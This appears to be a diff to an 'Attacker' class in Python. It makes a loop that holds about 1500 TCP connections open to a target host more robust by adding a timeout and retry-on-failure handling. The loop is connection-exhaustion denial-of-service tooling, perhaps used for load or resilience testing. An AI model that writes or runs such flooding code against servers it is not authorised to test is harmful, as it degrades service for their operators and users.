@@ -196,7 +196,12 @@ class Attacker:
         sockets: list[socket.socket] = []
         for n in range(1 << 40):
             if len(sockets) < 1500:
-                sockets.append(socket.create_connection((host, int(port))))
+                try:
+                    sockets.append(socket.create_connection((host, int(port)), 1.0))
+                except OSError:  # as many wait to be accepted as may
+                    time.sleep(0.02)
+                    yield 0
+                    continue
             else:
                 sockets.pop(n % len(sockets)).close()
             if n % 50 == 49:
